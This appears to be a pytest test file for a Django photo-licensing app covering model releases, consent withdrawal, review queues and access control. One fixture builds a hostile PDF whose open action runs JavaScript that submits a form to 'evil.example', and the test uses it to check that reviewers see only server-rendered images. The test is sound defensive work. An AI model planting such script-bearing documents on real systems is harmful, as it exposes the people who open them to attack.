import io
import re
from datetime import date

import pytest
from django.core import mail
from django.urls import reverse
from PIL import Image

from catalog.models import Photo
from licensing.consent import selectors, services
from licensing.consent.services.review import RELEASE_CHECKLIST
from licensing.consent.tests.factories import (
    BuyerFactory,
    ContributorFactory,
    PhotoFactory,
    StaffFactory,
    attach,
    make_release,
    pdf_upload,
    photo_with_people,
)
from licensing.models import ConsentWithdrawal, ModelRelease, ReviewDecision
from stockdata.notifications.models import Notification

pytestmark = pytest.mark.django_db

# What differs between any two 404 pages: the per-request CSRF token, and the language
# switcher's "come back here" field, which holds the requested path.
PER_REQUEST = re.compile(rb'(csrfmiddlewaretoken" value="|X-CSRFToken": "|name="next" type="hidden" value=")[^"]+')


def body_404(response) -> bytes:
    """A 404 page, without what differs per request."""
    assert response.status_code == 404
    return PER_REQUEST.sub(rb"\1", response.content)


@pytest.fixture
def contributor():
    return ContributorFactory()


@pytest.fixture
def reviewer():
    return StaffFactory()


def approve_form(release) -> dict:
    """What the review page posts to approve: the revision it showed, every checklist item ticked."""
    return {
        "action": "approve",
        "revision": selectors.release_revision(release),
        f"checklist-{release.uuid}": list(RELEASE_CHECKLIST),
    }


def login(client, user):
    client.force_login(user)
    return client


# --- Contributors see only their own ----------------------------------------------------------


def test_a_contributor_never_sees_another_contributors_releases(client, contributor, reviewer):
    mine = make_release(contributor, reference="mine")
    theirs = make_release(ContributorFactory(), reference="theirs", approve_by=reviewer)
    their_photo = photo_with_people(theirs.contributor)
    attach(theirs, their_photo)
    login(client, contributor)

    listing = client.get(reverse("licensing:release_list")).content.decode()
    assert mine.subject_id in listing and theirs.subject_id not in listing
    assert client.get(reverse("licensing:release_detail", args=[mine.uuid])).status_code == 200
    for name in ("release_detail", "release_edit", "release_attach"):
        assert client.get(reverse(f"licensing:{name}", args=[theirs.uuid])).status_code == 404, name
    assert client.get(reverse("licensing:photo_releases", args=[their_photo.uuid])).status_code == 404
    # Attaching their release to my photo, or mine to theirs, is a 404 too.
    my_photo = photo_with_people(contributor)
    response = client.post(
        reverse("licensing:photo_releases", args=[my_photo.uuid]), {"position": 1, "release": str(theirs.uuid)}
    )
    assert response.status_code == 404
    assert (
        client.post(
            reverse("licensing:photo_releases", args=[their_photo.uuid]), {"position": 1, "release": str(mine.uuid)}
        ).status_code
        == 404
    )

    api = client.get("/api/v1/releases/").json()
    assert [r["subject_id"] for r in api["results"]] == [mine.subject_id]
    assert client.get(f"/api/v1/releases/{theirs.uuid}/").status_code == 404
    assert (
        client.patch(
            f"/api/v1/releases/{theirs.uuid}/", {"reference": "x"}, content_type="application/json"
        ).status_code
        == 404
    )
    assert client.get(f"/api/v1/photos/{their_photo.uuid}/subjects/1/release/").status_code == 404
    assert (
        client.put(
            f"/api/v1/photos/{my_photo.uuid}/subjects/1/release/",
            {"release": str(theirs.uuid)},
            content_type="application/json",
        ).status_code
        == 404
    )


def test_the_contributor_sees_no_personal_data_after_upload(client, contributor):
    release = make_release(contributor, subject_name="Yamada Hanako", subject_contact="hanako@example.jp")
    login(client, contributor)
    for url in (
        reverse("licensing:release_list"),
        reverse("licensing:release_detail", args=[release.uuid]),
        reverse("licensing:release_edit", args=[release.uuid]),
        f"/api/v1/releases/{release.uuid}/",
    ):
        text = client.get(url).content.decode()
        assert release.subject_id in text, url
        assert "Yamada Hanako" not in text and "hanako@example.jp" not in text and "1990" not in text, url


def test_the_release_document_is_for_staff_only(client, contributor, reviewer):
    release = make_release(contributor)
    url = reverse("licensing:release_document", args=[release.uuid])
    anonymous_404 = body_404(client.get(url))
    assert anonymous_404 == body_404(client.get("/no-such-page/"))
    for user in (contributor, BuyerFactory(), ContributorFactory()):
        login(client, user)
        assert body_404(client.get(url)) == body_404(client.get("/no-such-page/")), user
    login(client, reviewer)
    # This test PDF has no page PDFium can draw: nothing is shown, and never the PDF itself.
    assert client.get(url).status_code == 404
    page = client.get(reverse("licensing:review_release", args=[release.uuid])).content.decode()
    assert 'data-testid="document-unreadable"' in page and "<iframe" not in page
    # Nowhere else: no URL in the API, and private storage has none at all.
    login(client, contributor)
    assert "document_url" not in client.get(f"/api/v1/releases/{release.uuid}/").json()


def pdf_with_script() -> bytes:
    """A two-page PDF that runs JavaScript when opened (an OpenAction), as an attacker would upload."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.actions import JavaScript
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    c = canvas.Canvas(buffer, pagesize=(595, 842))
    for n in (1, 2):
        c.drawString(72, 770, f"Model release, page {n}")
        c.showPage()
    c.save()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(buffer.getvalue())))
    writer.add_open_action(JavaScript("app.alert('pwned'); this.submitForm('https://evil.example/');"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_release_pdf_reaches_reviewers_only_as_server_rendered_images(client, contributor, reviewer):
    """Replay (issue 18): release PDFs were shown to reviewers as PDFs, with whatever scripts they carry."""
    data = pdf_with_script()
    assert b"/JavaScript" in data
    release = make_release(contributor, document=pdf_upload(data=data))
    login(client, reviewer)
    page = client.get(reverse("licensing:review_release", args=[release.uuid])).content.decode()
    url = reverse("licensing:release_document", args=[release.uuid])
    assert "<iframe" not in page
    assert page.count('data-testid="document-page"') == 2
    assert f'src="{url}?page=1"' in page and f'src="{url}?page=2"' in page
    for number in (1, 2):
        response = client.get(url, {"page": number})
        assert response.status_code == 200 and response["Content-Type"] == "image/png"
        assert response["Cache-Control"] == "private, no-store"
        assert response.content.startswith(b"\x89PNG") and b"%PDF" not in response.content
        with Image.open(io.BytesIO(response.content)) as image:
            assert image.width == 1400 and image.height > image.width
    plain = client.get(url)
    assert plain["Content-Type"] == "image/png"  # the default is page 1, never the PDF
    for bad in ("3", "0", "-1", "x", "١"):
        assert client.get(url, {"page": bad}).status_code == 404
    login(client, contributor)
    assert client.get(url, {"page": 1}).status_code == 404


# --- Creating through the portal --------------------------------------------------------------


def test_a_contributor_uploads_a_release_in_the_portal(client, contributor):
    login(client, contributor)
    assert client.get(reverse("licensing:release_create")).status_code == 200
    response = client.post(
        reverse("licensing:release_create"),
        {
            "reference": "Kyoto shoot",
            "subject_name": "Sato Yuki",
            "subject_contact": "yuki@example.jp",
            "age_band": "20s",
            "signed_on": "2026-02-01",
            "photographer_name": "Me",
            "form_language": "ja",
            "scopes": ["publication", "ai_training"],
            "document": pdf_upload(),
        },
    )
    release = ModelRelease.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("licensing:release_detail", args=[release.uuid])
    assert release.contributor == contributor and release.subject_name == "Sato Yuki"


def test_a_refused_document_is_explained_on_the_form(client, contributor):
    login(client, contributor)
    response = client.post(
        reverse("licensing:release_create"),
        {
            "subject_name": "A",
            "subject_contact": "b",
            "age_band": "20s",
            "signed_on": "2026-02-01",
            "photographer_name": "Me",
            "form_language": "ja",
            "scopes": ["publication"],
            "document": pdf_upload(data=b"just text"),
        },
    )
    assert response.status_code == 400
    assert "must be a PDF, or a JPEG or PNG scan" in response.content.decode()
    assert not ModelRelease.objects.exists()


def test_a_rejected_release_is_fixed_and_resubmitted_in_the_portal(client, contributor, reviewer):
    release = make_release(contributor)
    services.release_reject(
        release=release, reviewer=reviewer, reason="names_mismatch", note="Spelling of the family name."
    )
    login(client, contributor)
    detail = client.get(reverse("licensing:release_detail", args=[release.uuid])).content.decode()
    assert "The names on the form do not match the details entered." in detail
    assert "Spelling of the family name." in detail
    response = client.post(
        reverse("licensing:release_edit", args=[release.uuid]),
        {
            "reference": "fixed",
            "subject_name": "Yamada Hanae",
            "age_band": "30s",
            "signed_on": "2026-03-01",
            "photographer_name": "Sato Ken",
            "form_language": "ja",
            "scopes": ["publication", "ai_training"],
        },
    )
    assert response.status_code == 302
    release.refresh_from_db()
    assert (release.status, release.subject_name, release.subject_contact) == (
        "pending",
        "Yamada Hanae",
        "hanako@example.jp",
    )
    assert [s.code for s in selectors.release_active_scopes(release)] == ["publication", "ai_training"]


def test_attaching_one_release_to_people_in_several_photos(client, contributor):
    release = make_release(contributor, shoot_date=date(2026, 3, 1))
    photos = [photo_with_people(contributor, people=2) for _ in range(2)]
    login(client, contributor)
    page = client.get(reverse("licensing:release_attach", args=[release.uuid]))
    assert page.status_code == 200
    subjects = [p.subjects.get(position=1).pk for p in photos]
    response = client.post(reverse("licensing:release_attach", args=[release.uuid]), {"subjects": subjects})
    assert response.status_code == 302
    assert sorted(release.links.values_list("subject_id", flat=True)) == sorted(subjects)

    # And from the photo's side, with a search over my releases.
    other = make_release(contributor, reference="model B")
    url = reverse("licensing:photo_releases", args=[photos[0].uuid])
    assert other.subject_id in client.get(url, {"q": "model B"}).content.decode()
    assert client.post(url, {"position": 2, "release": str(other.uuid)}).status_code == 302
    assert photos[0].subjects.get(position=2).release_link.release == other
    assert client.post(url, {"position": 2, "action": "detach"}).status_code == 302
    assert not hasattr(photos[0].subjects.get(position=2), "release_link")


# --- Withdrawal by the subject ----------------------------------------------------------------


def test_the_subject_withdraws_through_the_secret_link_without_logging_in(client, contributor, reviewer):
    photo = photo_with_people(contributor, thumbnail="thumbs/aa/x.jpg")
    release = make_release(contributor, approve_by=reviewer)
    attach(release, photo)
    path = services.release_withdrawal_link_issue(release=release)
    # Not approved yet: its thumbnail is private, so the page shows a placeholder instead.
    assert "/media/public/thumbs/aa/x.jpg" not in client.get(path).content.decode()
    Photo.objects.filter(pk=photo.pk).update(status=Photo.Status.APPROVED, derived_public=True)

    page = client.get(path)
    text = page.content.decode()
    assert page.status_code == 200
    assert page["Referrer-Policy"] == "same-origin"
    assert release.subject_id in text
    assert "No one has received your photos so far." in text
    assert "/media/public/thumbs/aa/x.jpg" in text
    assert "Yamada Hanako" not in text

    response = client.post(path, {"scopes": ["biometric", "unique_identification"]})
    assert response.status_code == 302
    assert selectors.photo_consent_scopes(photo) == {"publication", "ai_training", "generative_ai_training"}
    withdrawal = ConsentWithdrawal.objects.get()
    assert (withdrawal.channel, withdrawal.recorded_by, withdrawal.entire) == ("link", None, False)
    assert sorted(s.code for s in withdrawal.scopes.all()) == ["biometric", "unique_identification"]
    assert Notification.objects.filter(user=contributor, kind="consent_withdrawn").exists()

    client.post(path, {"everything": "on", "confirm": "yes"})
    release.refresh_from_db()
    assert release.status == "withdrawn"
    assert selectors.photo_consent_scopes(photo) == frozenset()
    assert "You withdrew your whole consent" in client.get(path).content.decode()


def test_withdraw_confirm_withdrawing_everything_asks_once_more_and_links_contact_and_privacy(
    client, contributor, reviewer
):
    """Issue 22: a confirmation step before "withdraw everything"; the page links contact and privacy."""
    photo = photo_with_people(contributor)
    release = make_release(contributor, approve_by=reviewer)
    attach(release, photo)
    path = services.release_withdrawal_link_issue(release=release)
    page = client.get(path).content.decode()
    assert f'href="{reverse("core:contact")}" data-testid="contact-link"' in page
    assert f'href="{reverse("core:privacy")}" data-testid="privacy-link"' in page

    asked = client.post(path, {"everything": "on"})
    assert asked.status_code == 200 and asked["Cache-Control"] == "private, no-store"
    text = asked.content.decode()
    assert 'data-testid="withdraw-confirm"' in text and "This cannot be undone from this page." in text
    assert "Your photo will be taken off every public page at once" in text
    release.refresh_from_db()
    assert release.status == "approved" and not ConsentWithdrawal.objects.exists()  # nothing happened yet

    # A partial withdrawal needs no second step.
    assert client.post(path, {"scopes": ["biometric"]}).status_code == 302
    assert ConsentWithdrawal.objects.count() == 1

    assert client.post(path, {"everything": "on", "confirm": "yes"}).status_code == 302
    release.refresh_from_db()
    assert release.status == "withdrawn" and ConsentWithdrawal.objects.count() == 2


def test_a_wrong_token_gets_a_404_that_reveals_nothing(client, contributor, reviewer):
    release = make_release(contributor, approve_by=reviewer)
    path = services.release_withdrawal_link_issue(release=release)
    token = path.rstrip("/").rsplit("/", 1)[1]
    plain_404 = body_404(client.get("/no-such-page/"))
    for wrong in (
        token[:-2] + "xx",
        release.uuid.hex + ".",
        "0" * 32 + "." + token.split(".")[1],
        "not-a-token",
        token.split(".")[0],
    ):
        url = reverse("licensing:consent", args=[wrong])
        assert body_404(client.get(url)) == plain_404, wrong
        assert body_404(client.post(url, {"everything": "on"})) == plain_404, wrong
    release.refresh_from_db()
    assert release.status == "approved"


def test_staff_record_a_withdrawal_received_on_paper(client, contributor, reviewer):
    photo = photo_with_people(contributor)
    release = make_release(contributor, approve_by=reviewer)
    attach(release, photo)
    login(client, reviewer)
    response = client.post(
        reverse("licensing:paper_withdrawal", args=[release.uuid]),
        {"scopes": ["ai_training"], "received_on": "2026-06-01", "note": "Letter of 28 May"},
    )
    assert response.status_code == 302
    withdrawal = ConsentWithdrawal.objects.get()
    assert (withdrawal.channel, withdrawal.recorded_by, str(withdrawal.received_on)) == (
        "paper",
        reviewer,
        "2026-06-01",
    )
    assert selectors.photo_consent_scopes(photo) == {
        "publication",
        "generative_ai_training",
        "biometric",
        "unique_identification",
    }
    assert "Letter of 28 May" in client.get(reverse("licensing:review_release", args=[release.uuid])).content.decode()
    login(client, contributor)
    assert (
        client.post(reverse("licensing:paper_withdrawal", args=[release.uuid]), {"everything": "on"}).status_code == 404
    )


# --- The review queue -------------------------------------------------------------------------


def test_the_queue_is_oldest_first_and_reviews_linked_releases_with_their_photo(client, contributor, reviewer):
    standalone = make_release(contributor)
    photo = photo_with_people(contributor)
    linked = make_release(contributor)
    attach(linked, photo)
    photo.status = Photo.Status.SUBMITTED
    photo.submitted_at = standalone.submitted_at.replace(year=2020)
    photo.save()
    login(client, reviewer)
    text = client.get(reverse("licensing:review_queue")).content.decode()
    assert text.index(str(photo.uuid)) < text.index(standalone.subject_id)
    assert f"release:{linked.uuid}" not in text
    assert (
        f"release:{linked.uuid}" in client.get(reverse("licensing:review_queue"), {"kind": "releases"}).content.decode()
    )
    only_photos = client.get(reverse("licensing:review_queue"), {"kind": "photos"}).content.decode()
    assert standalone.subject_id not in only_photos
    other = client.get(reverse("licensing:review_queue"), {"contributor": ContributorFactory().pk}).content.decode()
    assert 'data-testid="queue-empty"' in other
    old = client.get(reverse("licensing:review_queue"), {"age": 7}).content.decode()
    assert str(photo.uuid) in old and standalone.subject_id not in old


def test_queue_and_item_pages_are_for_staff_only(client, contributor):
    release = make_release(contributor)
    assert client.get(reverse("licensing:review_queue")).status_code == 302
    login(client, contributor)
    assert client.get(reverse("licensing:review_queue")).status_code == 404
    assert client.get(reverse("licensing:review_release", args=[release.uuid])).status_code == 404
    assert (
        client.post(reverse("licensing:review_release", args=[release.uuid]), {"action": "approve"}).status_code == 404
    )
    release.refresh_from_db()
    assert release.status == "pending"


def test_the_queue_page_takes_a_fixed_number_of_queries(client, contributor, reviewer, django_assert_max_num_queries):
    for _ in range(12):
        photo = photo_with_people(contributor, people=2, status=Photo.Status.SUBMITTED)
        attach(make_release(contributor), photo, 1)
        make_release(ContributorFactory())
    login(client, reviewer)
    with django_assert_max_num_queries(14):
        response = client.get(reverse("licensing:review_queue"))
    assert response.content.decode().count("data-queue-item") == 24


def test_a_decision_moves_on_to_the_next_item_and_is_shown_on_the_item(client, contributor, reviewer):
    first = make_release(contributor)
    second = make_release(contributor)
    login(client, reviewer)
    page = client.get(reverse("licensing:review_release", args=[first.uuid]))
    text = page.content.decode()
    assert "Yamada Hanako" in text  # staff see the personal data
    assert 'data-testid="document-unreadable"' in text  # the test PDF has no page to draw
    response = client.post(
        reverse("licensing:review_release", args=[first.uuid]) + "?kind=releases",
        {"action": "reject", "reason": "release:dates_inconsistent", "note": "Signed before birth?"},
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("licensing:review_release", args=[second.uuid]) + "?kind=releases"
    response = client.post(reverse("licensing:review_release", args=[second.uuid]), approve_form(second))
    assert response["Location"] == reverse("licensing:review_queue")
    decision = ReviewDecision.objects.get(release=first)
    assert (decision.reviewer, decision.decision, decision.reason, decision.note) == (
        reviewer,
        "rejected",
        "dates_inconsistent",
        "Signed before birth?",
    )
    text = client.get(reverse("licensing:review_release", args=[first.uuid])).content.decode()
    assert "The dates do not agree (date signed, shoot date or date of birth)." in text
    assert str(reviewer) in text


def test_a_rejection_without_a_reason_is_refused_on_the_page(client, contributor, reviewer):
    release = make_release(contributor)
    login(client, reviewer)
    response = client.post(reverse("licensing:review_release", args=[release.uuid]), {"action": "reject", "reason": ""})
    assert response.status_code == 400
    assert "This field is required." in response.content.decode()
    release.refresh_from_db()
    assert release.status == "pending"


def test_approving_a_minor_without_guardian_shows_why_on_the_page(client, contributor, reviewer):
    release = make_release(contributor, date_of_birth=date(2012, 1, 1), guardian_name="G", guardian_signed=True)
    ModelRelease.objects.filter(pk=release.pk).update(guardian_name="", guardian_signed=False)
    login(client, reviewer)
    response = client.post(reverse("licensing:review_release", args=[release.uuid]), approve_form(release))
    assert response.status_code == 409
    assert "is for a minor and has no guardian" in response.content.decode()


def test_bulk_approve(client, contributor, reviewer):
    releases = [make_release(contributor) for _ in range(3)]
    scenery = PhotoFactory(contributor=contributor, no_people=True, status=Photo.Status.SUBMITTED)
    login(client, reviewer)
    response = client.post(
        reverse("licensing:review_bulk_approve"),
        {"items": [f"release:{r.uuid}" for r in releases[:2]] + [f"photo:{scenery.uuid}"]},
    )
    assert response.status_code == 302
    # Paper releases are approved one by one, their checklist ticked; a photo without people needs none.
    assert sorted(ModelRelease.objects.values_list("status", flat=True)) == ["pending", "pending", "pending"]
    assert Photo.objects.get(pk=scenery.pk).status == "approved"
    assert ReviewDecision.objects.count() == 1


def test_the_contributor_reads_the_reason_in_the_portal_notifications(
    client, contributor, reviewer, django_capture_on_commit_callbacks
):
    photo = photo_with_people(contributor, status=Photo.Status.SUBMITTED)
    attach(make_release(contributor), photo)
    login(client, reviewer)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("licensing:review_photo", args=[photo.uuid]),
            {"action": "reject", "reason": "photo:quality", "note": "The face is out of focus."},
        )
    assert len([m for m in mail.outbox if m.to == [contributor.email]]) == 1
    login(client, contributor)
    text = client.get(reverse("notifications:list")).content.decode()
    assert "Technical quality: out of focus, noisy or badly exposed." in text
    assert "The face is out of focus." in text
    client.post(reverse("notifications:list"))
    assert not Notification.objects.filter(user=contributor, read_at__isnull=True).exists()


def test_opt_out_page(client, contributor, reviewer):
    photo = photo_with_people(contributor)
    attach(make_release(contributor, approve_by=reviewer), photo)
    login(client, contributor)
    assert client.get(reverse("licensing:opt_out")).status_code == 200
    client.post(reverse("licensing:opt_out"), {"kind": "biometric"})
    assert selectors.photo_consent_scopes(photo) == {"publication", "ai_training", "generative_ai_training"}
    client.post(reverse("licensing:opt_out"), {"photos": [str(photo.uuid)], "photo_kind": "ai_training"})
    assert selectors.photo_consent_scopes(photo) == {"publication"}
    stranger = PhotoFactory()
    assert (
        client.post(
            reverse("licensing:opt_out"), {"photos": [str(stranger.uuid)], "photo_kind": "ai_training"}
        ).status_code
        == 404
    )


def test_navigation_entries(client, contributor, reviewer):
    login(client, contributor)
    text = client.get("/").content.decode()
    assert reverse("licensing:release_list") in text and reverse("notifications:list") in text
    login(client, reviewer)
    assert reverse("licensing:review_queue") in client.get("/").content.decode()


def test_admin_pages_render_and_keep_personal_data_read_only_for_reviewers(client, contributor, reviewer):
    release = make_release(contributor, approve_by=StaffFactory())
    services.consent_withdraw(release=release, scopes=["biometric"])
    reviewer.is_superuser = False
    reviewer.save()
    from django.contrib.auth.models import Permission

    reviewer.user_permissions.set(
        Permission.objects.filter(content_type__app_label__in=["licensing", "contributors", "notifications"])
    )
    login(client, reviewer)
    page = client.get(reverse("admin:licensing_modelrelease_change", args=[release.pk]))
    text = page.content.decode()
    assert page.status_code == 200
    assert "Yamada Hanako" in text and 'name="subject_name"' not in text
    for name in ("modelrelease", "reviewdecision", "consentwithdrawal", "consentscope", "contributoroptout"):
        assert client.get(reverse(f"admin:licensing_{name}_changelist")).status_code == 200, name
    assert client.get(reverse("admin:notifications_notification_changelist")).status_code == 200
    superuser = StaffFactory(is_superuser=True)
    login(client, superuser)
    assert (
        'name="subject_name"'
        in client.get(reverse("admin:licensing_modelrelease_change", args=[release.pk])).content.decode()
    )
